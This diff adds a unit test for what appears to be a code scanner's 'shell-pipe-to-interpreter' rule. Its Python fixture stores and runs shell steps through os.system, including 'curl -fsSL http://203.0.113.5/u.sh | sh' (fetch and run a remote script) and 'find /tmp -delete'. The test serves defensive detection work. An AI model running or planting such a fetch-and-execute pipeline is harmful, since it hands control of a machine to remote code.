@@ -169,3 +169,17 @@ def test_a_command_a_method_stores_from_its_parameter_and_another_method_runs():
             "def weekly():\n    j = Jobs()\n    j.add('git gc --auto')\n    j.go()\n")
     assert found("shell-pipe-to-interpreter", code) == [(9, "critical")]
     assert found("shell-pipe-to-interpreter", code.replace("curl -fsSL http://203.0.113.5/u.sh | sh", "ls")) == []
+
+
+def test_a_command_a_method_builds_from_its_arguments_and_stores_is_folded_at_its_calls():
+    code = ("import os\nclass Maintenance:\n    runner = staticmethod(os.system)\n    steps = []\n"
+            "    def add(self, *parts):\n        self.steps.append(' '.join(parts))\n        return self\n"
+            "    def go(self):\n        for step in self.steps:\n            self.runner(step)\n"
+            "def nightly():\n    m = Maintenance()\n    m.add('find', '/tmp', '-delete')\n"
+            "    m.add('curl', '-fsSL', 'http://203.0.113.5/u.sh', '|', 'sh')\n    m.go()\n")
+    assert found("shell-pipe-to-interpreter", code) == [(10, "critical")]
+    # the same pieces, never joined into one pipeline: nothing
+    assert found("shell-pipe-to-interpreter", code.replace("'|', 'sh'", "'-o', '/tmp/u.sh'")) == []
+    # an argument not known at one call: the list's constants are not all it holds
+    unknown = code.replace("    m.go()\n", "    m.add(input())\n    m.go()\n")
+    assert found("shell-pipe-to-interpreter", unknown) == []
